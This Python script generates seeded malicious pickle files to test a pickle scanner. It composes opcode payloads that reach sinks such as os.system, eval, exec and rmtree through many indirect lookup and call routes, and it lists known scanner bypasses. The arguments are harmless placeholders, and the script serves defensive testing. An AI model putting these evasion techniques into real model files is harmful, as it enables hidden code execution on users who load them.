"""Writes payloads that a seed chooses: ways of reaching a sink, composed of the primitives that pickles have.

    payloads.py FOLDER [COUNT] [SEED]

Each payload leads from data to a call of a sink with an argument of the file, in one to four steps: a lookup by name, a function
with arguments, a call of what a call returned, an iteration, a setter, a hook. None of them runs when it is written. A scan must
call none of them clean.
"""

import random
import sys
from pathlib import Path

TEXT, PROTO = "echo a payload ran", b"\x80\x04"


def short(text):
    return b"\x8c" + bytes([len(text)]) + text.encode()


def name(dotted):
    """A global: `module:name`."""
    module, _, attribute = dotted.partition(":")
    return short(module) + short(attribute) + b"\x93"


def many(*parts):
    return b"(" + b"".join(parts) + b"t"


def call(function, *args):
    return function + many(*args) + b"R"


def listed(*items):
    return b"](" + b"".join(items) + b"e"


def mapped(**entries):
    return b"}(" + b"".join(short(key) + value for key, value in entries.items()) + b"u"


def new(cls, *args):
    return cls + many(*args) + b"\x81"


ARGUMENT = short(TEXT)
NONE, TRUE = b"N", b"\x88"

# Sinks that no list may call harmless when they are called, and the arguments that they would do something with. They are of
# all kinds: well-known ones, functions whose source hides the call, constructors, methods.
SINKS = {
    "os:system": [ARGUMENT], "posix:system": [ARGUMENT], "builtins:eval": [short("1")], "builtins:exec": [short("1")],
    "subprocess:getoutput": [ARGUMENT], "numpy:savetxt": [short("out.txt"), listed()], "numpy:load": [short("in.npy")],
    "numpy.ma.core:_convert2ma": [short("loads"), NONE, NONE], "numpy.ma.core:_frommethod": [short("tofile")],
    "numpy:genfromtxt": [short("http://127.0.0.1:1/a")], "torch.serialization:load": [short("in.pt")],
    "torch.distributed.checkpoint._fsspec_filesystem:FsspecReader": [short("http://127.0.0.1:1/a")],
    "torch.distributed.checkpoint:FileSystemReader": [short("/tmp")], "torch.utils.data:DataLoader": [listed()],
    "torch.ao.quantization.fx._lower_to_native_backend:Graph": [], "torch.ao.quantization.fx._lower_to_native_backend:GraphModule": [NONE, NONE],
    "torch.ao.quantization.fx._lower_to_native_backend:Node": [NONE, short("n"), short("call_function"), NONE, many(), b"}"],
    "torch.torch_version:_LazyImport": [short("os")], "torch.nn.utils.rnn:namedtuple": [short("A"), short("b")],
    "torch.optim.swa_utils:deepcopy": [ARGUMENT], "torch._export.serde.serialize:deserialize_torch_artifact": [ARGUMENT],
    "collections:namedtuple": [short("A"), short("b")], "logging.config:dictConfig": [b"}"], "importlib:import_module": [short("this")],
    "torch.jit._script:CompilationUnit": [ARGUMENT], "shutil:rmtree": [short("/nonexistent")], "io:open": [short("out.txt"), short("w")],
    "torch.hub:load": [short("a/b"), short("c")], "ctypes:CDLL": [short("libc.so.6")], "torch:from_file": [short("in.bin")],
    "torch.nn.modules.module:Module.register_forward_hook": [NONE, NONE], "functools:singledispatch": [name("builtins:len")],
}


class Composer(object):
    def __init__(self, seed):
        self.random = random.Random(seed)

    def payload(self):
        """A pickle, and the names of its steps."""
        sink = self.random.choice(sorted(SINKS))
        args = SINKS[sink]
        how, function = self.function(sink)
        how_called, body = self.called(function, args, sink)
        wrapped = self.random.choice([self.plain, self.in_dict, self.in_state])
        return PROTO + wrapped(body) + b".", [sink, how, how_called]

    # How the function is found.

    def function(self, sink):
        module, _, attribute = sink.partition(":")
        ways = {
            "named": lambda: name(sink),
            "dotted": lambda: name("torch.serialization:" + module + "." + attribute),
            "getattr": lambda: call(name("builtins:getattr"), call(name("importlib:import_module"), short(module)), short(attribute)),
            "attrgetter": lambda: call(call(name("operator:attrgetter"), short(attribute)), call(name("builtins:__import__"), short(module))),
            "dict.get": lambda: call(name("builtins:dict.get"), call(name("builtins:vars"), call(name("importlib:import_module"), short(module))), short(attribute)),
            "lazy import": lambda: call(name("builtins:dict.get"), call(name("builtins:getattr"), new(name("torch.torch_version:_LazyImport"), short(module)),
                                                                        short("__dict__")), short(attribute)),
            "itemgetter": lambda: call(call(name("operator:itemgetter"), short(attribute)), call(name("builtins:vars"), name(module + ":" + attribute))),
            "next of iter": lambda: call(name("builtins:next"), call(name("builtins:iter"), listed(name(sink)))),
            "max of a list": lambda: call(name("builtins:max"), listed(name(sink))),
            "OrderedDict.get": lambda: call(name("builtins:dict.get"), call(name("collections:OrderedDict"), listed(b"(" + short("k") + name(sink) + b"t")), short("k")),
            "reduce of getattr": lambda: call(name("functools:reduce"), name("builtins:getattr"), many(call(name("builtins:__import__"), short(module)), short(attribute))),
            "defaultdict": lambda: call(name("operator:getitem"), call(name("collections:defaultdict"), call(name("functools:partial"), name(sink))), short("k")),
        }
        ways.update({
            "__getattribute__": lambda: call(name("builtins:object.__getattribute__"), call(name("importlib:import_module"), short(module)), short(attribute)),
            "methodcaller of get": lambda: call(call(name("operator:methodcaller"), short("get"), short(attribute)), call(name("builtins:vars"), call(name("importlib:import_module"), short(module)))),
            "partial of getattr": lambda: call(call(name("functools:partial"), name("builtins:getattr"), call(name("importlib:import_module"), short(module))), short(attribute)),
            "extension": lambda: call(name("copyreg:add_extension"), short(module), short(attribute), b"K\x2a") + b"0\x82\x2a",
            "_getattribute": lambda: call(name("pickle:_getattribute"), call(name("importlib:import_module"), short(module)), short(attribute)),
            "method": lambda: call(name("types:MethodType"), name(sink), *SINKS[sink][:1]),
            "staticmethod": lambda: call(name("builtins:staticmethod.__get__"), call(name("builtins:staticmethod"), name(sink)), NONE, name("builtins:object")),
            "property's getter": lambda: call(name("builtins:getattr"), call(name("builtins:property"), name(sink)), short("fget")),
            "__wrapped__": lambda: call(name("builtins:getattr"), call(name("functools:update_wrapper"), name("torch.nn.functional:relu"), name(sink)), short("__wrapped__")),
            "Counter's key": lambda: call(name("builtins:next"), call(name("builtins:iter"), call(name("collections:Counter"), listed(name(sink))))),
            "deque.pop": lambda: call(name("collections:deque.pop"), call(name("collections:deque"), listed(name(sink)))),
            "ChainMap": lambda: call(name("operator:getitem"), call(name("collections:ChainMap"), mapped(k=name(sink))), short("k")),
            "enumeration's value": lambda: call(name("operator:attrgetter"), short("value")) + many(call(name("enum:Enum"), short("E"), listed(many(short("a"), name(sink))))) + b"R",
            "resolve_name": lambda: call(name("pkgutil:resolve_name"), short(sink)),
            "locate": lambda: call(name("pydoc:locate"), short(module + "." + attribute)),
            "computed global": lambda: call(name("builtins:str"), short(module)) + call(name("builtins:str"), short(attribute)) + b"\x93",
            "memo": lambda: name(sink) + b"\x940N0h" + b"\0",
        })
        how = self.random.choice(sorted(ways))
        return how, ways[how]()

    # How it is called.

    def called(self, function, args, sink):
        partial = lambda: call(name("functools:partial"), function, *args)  # noqa: E731
        one = args[0] if args else NONE
        ways = {
            "REDUCE": lambda: call(function, *args),
            "partial": lambda: call(partial()),
            "NEWOBJ of partial's result": lambda: call(name("builtins:list"), call(name("builtins:map"), function, listed(one))),
            "reduce": lambda: call(name("functools:reduce"), function, many(one, one)),
            "map in a set": lambda: call(name("builtins:set"), call(name("builtins:map"), function, listed(one))),
            "filter": lambda: call(name("builtins:tuple"), call(name("builtins:filter"), function, listed(one))),
            "sorted with a key": lambda: call(partial_with_keywords(name("builtins:sorted"), "key", function), listed(one, one)),
            "iter with a sentinel": lambda: call(name("builtins:list"), call(name("builtins:iter"), partial(), NONE)),
            "defaultdict item": lambda: call(name("operator:getitem"), call(name("collections:defaultdict"), partial()), short("k")),
            "__setstate__ in a state": lambda: new(name("argparse:Namespace")) + mapped(__setstate__=function) + b"b" + one + b"b",
            "extend in a state": lambda: new(name("collections:UserList")) + mapped(extend=function) + b"b(" + one + b"e",
            "slot state": lambda: new(name("torch.fx.graph:Graph")) + many(NONE, mapped(_codegen=call(function, *args))) + b"b",
            "BUILD on what next returned": lambda: call(name("builtins:next"), call(name("builtins:iter"), listed(new(name("torch.fx.graph:Graph")))))
            + many(NONE, mapped(owning_module=call(function, *args))) + b"b",
            "__reduce__ by copy": lambda: call(name("copy:copy"), new(name("argparse:Namespace")) + mapped(f=call(function, *args)) + b"b"),
            "DataLoader under list": lambda: call(name("builtins:list"), new(name("torch.utils.data.dataloader:DataLoader")) + mapped(
                dataset=listed(one), collate_fn=function, batch_sampler=listed(listed(b"K\0")), num_workers=b"K\0") + b"b"),
            "__missing__": lambda: call(name("collections:ChainMap.get"), call(name("collections:ChainMap"), call(name("collections:defaultdict"), partial())), short("k")),
            "cached property": lambda: call(name("functools:cached_property"), function) + b"0" + call(function, *args),
            "methodcaller": lambda: call(call(name("operator:methodcaller"), short("__call__"), *args), function),
            "starmap": lambda: call(name("collections:deque"), call(name("itertools:starmap"), function, listed(many(*args)))),
            "hook of a module": lambda: call(name("torch.nn.modules.module:Module.__call__"), new(name("torch.nn.modules.linear:Identity")) + mapped(
                _forward_pre_hooks=b"}K\0" + function + b"s", _parameters=b"}", _buffers=b"}", _modules=b"}") + b"b", one),
            "tree_map": lambda: call(name("torch.utils._pytree:tree_map"), function, listed(one)),
            "default_collate": lambda: call(name("torch.utils.data._utils.collate:collate"), listed(one), name("builtins:str")) + b"0" + call(function, *args),
            "apply": lambda: call(name("torch.nn.modules.module:Module.apply"), new(name("torch.nn.modules.linear:Identity")) + mapped(_modules=b"}") + b"b", function),
            "apply_along_axis": lambda: call(name("numpy:apply_along_axis"), function, b"K\0", listed(b"K\1")),
            "INST": lambda: b"(" + b"".join(args) + b"i" + sink.replace(":", "\n").encode() + b"\n",
            "OBJ": lambda: b"(" + function + b"".join(args) + b"o",
        }
        inner = PROTO + call(name(sink), *args) + b"."
        namespace = new(name("argparse:Namespace"))
        ways.update({
            "partial in a state": lambda: call(call(name("functools:partial"), name("builtins:print")) + many(function, many(*args), b"}", NONE) + b"b"),
            "partial.__call__": lambda: call(name("functools:partial.__call__"), partial()),
            "object.__setattr__": lambda: call(name("builtins:object.__setattr__"), namespace, short("a"), call(function, *args)),
            "type.__setattr__": lambda: call(name("builtins:type.__setattr__"), name("argparse:Namespace"), short("__setstate__"), function) + b"0" + namespace + one + b"b",
            "class as state": lambda: name("argparse:Namespace") + many(NONE, mapped(__setstate__=function)) + b"b0" + namespace + one + b"b",
            "property setter": lambda: call(name("builtins:property.__set__"), call(name("builtins:property"), NONE, function), namespace, one),
            "property": lambda: call(name("builtins:property.__get__"), call(name("builtins:property"), function), one),
            "metaclass": lambda: call(call(name("builtins:type"), short("A"), many(), mapped(__new__=function, __init__=function)), *args),
            "__init_subclass__": lambda: call(name("builtins:type"), short("B"), many(call(name("builtins:type"), short("A"), many(), mapped(__init_subclass__=function))), b"}"),
            "__set_name__": lambda: call(name("builtins:type"), short("B"), many(), mapped(a=call(call(name("builtins:type"), short("A"), many(), mapped(__set_name__=function))))),
            "new_class": lambda: call(name("types:new_class"), short("A"), many(), NONE, function),
            "__class_getitem__": lambda: call(name("operator:getitem"), call(name("builtins:type"), short("A"), many(), mapped(__class_getitem__=function)), one),
            "FunctionType": lambda: call(call(name("types:FunctionType"), call(name("marshal:loads"), b"C\4abcd"), b"}")),
            "DynamicClassAttribute": lambda: call(name("types:DynamicClassAttribute.__get__"), call(name("types:DynamicClassAttribute"), function), one),
            "coroutine": lambda: call(name("types:coroutine"), function) + b"0" + call(function, *args),
            "__missing__ of a class": lambda: call(name("operator:getitem"), call(call(name("builtins:type"), short("A"), many(name("builtins:dict")), mapped(__missing__=function))), one),
            "defaultdict.__missing__": lambda: call(name("collections:defaultdict.__missing__"), call(name("collections:defaultdict"), partial()), short("k")),
            "defaultdict's state": lambda: call(name("collections:defaultdict.__getitem__"), new(name("collections:defaultdict")) + many(NONE, mapped(default_factory=partial())) + b"b", short("k")),
            "Counter.update": lambda: call(name("collections:Counter.update"), call(name("collections:Counter")), call(name("builtins:map"), function, listed(one))),
            "Counter of a map": lambda: call(name("collections:Counter"), call(name("builtins:map"), function, listed(one))),
            "Counter's item": lambda: call(name("collections:Counter")) + b"(" + call(name("builtins:map"), function, listed(one)) + b"K\1u",
            "any": lambda: call(name("builtins:any"), call(name("builtins:map"), function, listed(one))),
            "join": lambda: call(name("builtins:str.join"), short(""), call(name("builtins:map"), function, listed(one))),
            "chain": lambda: call(name("builtins:frozenset"), call(name("itertools:chain"), call(name("builtins:map"), function, listed(one)))),
            "groupby": lambda: call(name("builtins:list"), call(name("itertools:groupby"), listed(one), function)),
            "accumulate": lambda: call(name("builtins:list"), call(name("itertools:accumulate"), listed(one, one), function)),
            "generator in extend": lambda: b"]" + call(name("builtins:map"), function, listed(one)) + b"a0" + call(name("collections:deque"), call(name("builtins:map"), function, listed(one))),
            "__reduce_ex__": lambda: call(call(name("builtins:getattr"), partial(), short("__reduce_ex__")), b"K\2"),
            "methodcaller of __reduce_ex__": lambda: call(name("copy:deepcopy"), call(call(name("operator:methodcaller"), short("__reduce_ex__"), b"K\2"), partial())),
            "dispatch table": lambda: call(name("copyreg:pickle"), name("argparse:Namespace"), function) + b"0" + call(name("copy:copy"), namespace),
            "_reconstruct": lambda: call(name("copy:_reconstruct"), NONE, NONE, function, many(*args)),
            "__newobj__": lambda: call(name("copyreg:__newobj__"), function, *args),
            "__newobj_ex__": lambda: call(name("copyreg:__newobj_ex__"), function, many(*args), b"}"),
            "_reconstructor": lambda: call(name("copyreg:_reconstructor"), function, function, one),
            "NEWOBJ_EX": lambda: function + many(*args) + b"}\x92",
            "persistent id": lambda: persistent(short("module"), call(function, *args), NONE, NONE),
            "persistent module": lambda: persistent(short("module"), function, NONE, NONE) + many(*args) + b"R",
            "nested pickle": lambda: call(name("pickle:loads"), b"C" + bytes([len(inner) % 256]) + inner[:255]),
            "pickle in a storage": lambda: call(name("torch.storage:_load_from_bytes"), b"B" + len(inner).to_bytes(4, "little") + inner),
            "pickle in an array": lambda: call(name("numpy:ndarray.__setstate__"), ARRAY, many(b"K\1", b"K\1\x85", OBJECT, b"\x89", listed(call(function, *args)))),
            "pickle in encoded bytes": lambda: call(name("torch.storage:_load_from_bytes"), call(name("_codecs:encode"), b"X" + len(inner.decode("latin1").encode()).to_bytes(4, "little") + inner.decode("latin1").encode(), short("latin1"))),
            "key of a dict": lambda: b"}" + call(function, *args) + b"K\1s",
            "member of a set": lambda: b"\x8f(" + call(function, *args) + b"\x90",
            "frozen set": lambda: b"(" + call(function, *args) + b"\x91",
            "reduce of or_": lambda: call(name("functools:reduce"), name("operator:or_"), many(call(function, *args), NONE)),
            "wrapped rebuild": lambda: call(name("torch._tensor:_rebuild_from_type_v2"), function, name("torch:Tensor"), many(*args), b"}"),
            "backward hooks": lambda: call(name("torch._utils:_rebuild_parameter"), call(function, *args), TRUE, call(name("collections:OrderedDict"))),
            "weakref's callback": lambda: call(name("weakref:finalize"), namespace, function, *args),
            "__del__": lambda: namespace + mapped(__del__=function) + b"b0" + call(function, *args),
            "lru_cache": lambda: call(call(name("functools:lru_cache"), function), *args),
            "singledispatch": lambda: call(call(name("functools:singledispatch"), function), *args),
            "cmp_to_key": lambda: call(name("operator:lt"), call(call(name("functools:cmp_to_key"), function), one), call(call(name("functools:cmp_to_key"), function), one)),
        })
        how = self.random.choice(sorted(ways))
        return how, ways[how]()

    # Where the call is.

    def plain(self, body):
        return body

    def in_dict(self, body):
        return mapped(state_dict=mapped(weight=b"K\1"), extra=body)

    def in_state(self, body):
        return new(name("torch.nn.modules.linear:Identity")) + mapped(training=TRUE, extra=body) + b"b"


def partial_with_keywords(function, keyword, value):
    return call(name("functools:partial"), function) + many(function, many(), mapped(**{keyword: value}), NONE) + b"b"


def computed(text):
    """A text that a call returns, which the interpreter takes for an attribute's name."""
    return call(name("builtins:str"), short(text))


def persistent(*parts):
    return many(*parts) + b"Q"


# An instance whose methods run if a function reads, prints, iterates over it or asks for its truth.
LOADER = new(name("torch.utils.data.dataloader:DataLoader")) + mapped(dataset=listed(b"K\0"), num_workers=b"K\1") + b"b"
LINEAR = new(name("torch.nn.modules.linear:Linear"))
FUNCTION = name("torch.nn.functional:relu")
ARRAY = call(name("numpy.core.multiarray:_reconstruct"), name("numpy:ndarray"), many(b"K\0"), b"C\1b")


def dtype(code, *state):
    return call(name("numpy:dtype"), code, b"\x89", b"\x88") + many(b"K\3", *state) + b"b"


MINUS_ONE = b"J\xff\xff\xff\xff"
OBJECT = dtype(short("O8"), short("|"), NONE, NONE, NONE, MINUS_ONE, MINUS_ONE, b"K\x3f")


def record(offset):
    """The dtype of a record of 16 bytes with an object at an offset."""
    fields = b"}" + short("a") + OBJECT + offset + b"\x86s"
    return dtype(short("V16"), short("|"), NONE, short("a") + b"\x85", fields, b"K\x10", b"K\1", b"K\x1b")


# Each of these was once called clean.
FOUND = {
    "graph_reduce": call(name("torch.ao.quantization.fx._lower_to_native_backend:Graph")),
    "graph_slots": new(name("torch.ao.quantization.fx._lower_to_native_backend:Graph")) + many(NONE, mapped(owning_module=ARGUMENT)) + b"b",
    "node_reduce": call(name("torch.ao.quantization.fx._lower_to_native_backend:Node"), NONE, short("n"), short("call_function"), NONE, many(), b"}"),
    "node_slots": new(name("torch.ao.quantization.fx._lower_to_native_backend:Node")) + many(NONE, mapped(args=many())) + b"b",
    "graph_module_reduce": call(name("torch.ao.quantization.fx._lower_to_native_backend:GraphModule"), b"}", NONE),
    "graph_module_slots": new(name("torch.ao.quantization.fx._lower_to_native_backend:GraphModule"), b"}", NONE) + many(NONE, mapped(graph=NONE)) + b"b",
    "lazy_import": call(call(name("builtins:dict.get"), new(name("torch.torch_version:_LazyImport")) + mapped(_cls_name=short("os")) + b"b", short("system")), ARGUMENT),
    "convert2ma": call(call(name("numpy.ma.core:_convert2ma"), short("savetxt"), short(""), short("")), short("out.txt"), listed()),
    "frommethod": call(call(name("numpy.ma.core:_frommethod"), short("tofile")), listed(), short("out.txt")),
    "fsspec": call(name("torch.distributed.checkpoint._fsspec_filesystem:FsspecReader"), short("http://127.0.0.1:1/a")),
    "data_loader": call(name("builtins:list"), new(name("torch.utils.data.dataloader:DataLoader")) + mapped(dataset=listed()) + b"b"),
    "next_of_iter": call(name("builtins:next"), call(name("builtins:iter"), listed(new(name("argparse:Namespace"))))) + mapped(a=ARGUMENT) + b"b",
    "namedtuple": call(name("torch.nn.utils.rnn:namedtuple"), short("A"), short("b")),
    "deepcopy": call(name("torch.optim.swa_utils:deepcopy"), ARGUMENT),
    "library": call(name("torch.ao.quantization.fx._decomposed:Library"), short("a"), short("DEF")),
    "partial_result": call(call(name("functools:partial"), name("numpy:savetxt")), short("out.txt"), listed()),
    "class_of_slots": new(name("argparse:Namespace")) + many(NONE, mapped(__class__=name("torch.fx.graph:Graph"))) + b"b",
    "key": b"}" + new(name("torch.fx.node:Node")) + b"K\1s",
    "module_dicts": new(name("torch.nn.modules.conv:Conv2d")) + mapped(_modules=new(name("torch.torch_version:_LazyImport"))) + b"b",
    "optimizer_groups": new(name("torch.optim.adam:Adam")) + mapped(param_groups=new(name("torch.utils.data.dataloader:DataLoader"))) + b"b",
    "bit_generator": call(name("numpy.random._pickle:__bit_generator_ctor"), name("torch.utils.data.dataloader:DataLoader")),
    "reconstruct": call(name("numpy.core.multiarray:_reconstruct"), name("numpy:memmap"), many(b"K\0"), b"C\1b"),
    "wrapper_subclass": call(name("torch._tensor:_rebuild_from_type_v2"), name("numpy:load"), name("torch:Tensor"), many(ARGUMENT), b"}"),
    "build_on_function": name("torch.nn.functional:relu") + mapped(__code__=NONE) + b"b",
    "computed_setstate": new(name("argparse:Namespace")) + b"}(" + computed("__setstate__") + FUNCTION + b"ub}b",
    "computed_class": new(name("argparse:ArgumentTypeError")) + b"}(" + computed("__class__") + name("argparse:ArgumentError") + b"ub",
    "computed_parameters": new(name("torch.nn.modules.conv:Conv2d")) + b"}(" + computed("_parameters") + LOADER + b"ub",
    "exception_args": new(name("builtins:ValueError")) + mapped(args=LOADER) + b"b",
    "module_of_a_list": LINEAR + listed(LOADER) + b"b",
    "module_of_a_tuple": LINEAR + many(LOADER, LOADER) + b"b",
    "truth_of_a_hook": new(name("torch.nn.modules.module:_WrappedHook")) + mapped(hook=NONE, with_module=LOADER, module=NONE) + b"b",
    "getattr_of_a_module": call(name("builtins:getattr"), LINEAR + mapped(_parameters=LOADER) + b"b", short("T")),
    "getattr_of_a_lazy_method": call(name("builtins:getattr"), LINEAR + mapped(_parameters=LOADER) + b"b", short("_infer_parameters")),
    "newobj_of_a_matrix": call(name("copyreg:__newobj__"), name("numpy:matrix"), short("1 2; 3 4")),
    "newobj_of_a_dtensor": call(name("copyreg:__newobj__"), name("torch.distributed.tensor:DTensor"), b"K\1", b"K\1"),
    "class_for_a_generator": call(name("numpy.random._pickle:__generator_ctor"), name("torch.utils._pytree:TreeSpec")),
    "class_for_a_random_state": call(name("numpy.random._pickle:__randomstate_ctor"), name("collections:UserDict"), name("numpy.random._pickle:__bit_generator_ctor")),
    # NumPy would take bytes of the file for addresses of objects.
    "flags_of_fields": dtype(listed(many(short("a"), short("O")), many(short("b"), short("i8"))), short("|"), NONE, NONE, NONE, b"K\x10", b"K\1", b"K\0"),
    "flags_without_a_list": dtype(short("O8"), short("|"), NONE, NONE, NONE, MINUS_ONE, MINUS_ONE, b"K\1"),
    "offset_outside": record(b"J\xa0\x86\1\0"),
    "items_of_a_record": ARRAY + many(b"K\1", b"K\1\x85", record(b"K\0"), b"\x89", listed(LOADER + b"\x85")) + b"b",
    "persistent_class_is_changed": persistent(short("module"), name("torch.nn.modules.linear:Linear"), NONE, NONE) + many(NONE, mapped(__setstate__=FUNCTION)) + b"b",
    "persistent_partial_is_called": persistent(short("module"), call(name("functools:partial"), FUNCTION, ARGUMENT), NONE, NONE) + b")R",
    "persistent_storage_is_set": persistent(short("storage"), name("torch:FloatStorage"), short("0"), short("cpu"), b"K\1") + b"K\0" + LOADER + b"s",
    "persistent_key_of_a_tuple": persistent(short("storage"), name("torch:FloatStorage"), LOADER + b"\x85", short("cpu"), b"K\1"),
    "text_of_an_instance": call(name("builtins:str"), call(name("collections:Counter"), listed(short("a")))),
    "compiled_annotation": call(name("operator:getitem"), name("typing:Optional"), short("__import__('os')")),
    "persistent_id": many(short("storage"), new(name("torch.torch_version:_LazyImport")), short("0"), short("cpu"), b"K\1") + b"Q",
}


def write(folder, count=200, seed=22):
    folder.mkdir(parents=True, exist_ok=True)
    composer, seen, steps = Composer(seed), set(), {}
    for title, body in FOUND.items():
        (folder / f"found_{title}.pkl").write_bytes(PROTO + body + b".")
    while len(seen) < count:
        data, how = composer.payload()
        if data not in seen:
            path = folder / f"payload_{len(seen):03}.pkl"
            seen.add(data)
            steps[path.name] = how
            path.write_bytes(data)
    return steps


if __name__ == "__main__":
    arguments = sys.argv[1:]
    for file, how in write(Path(arguments[0]), *map(int, arguments[1:])).items():
        print(file, *how, sep="\t")
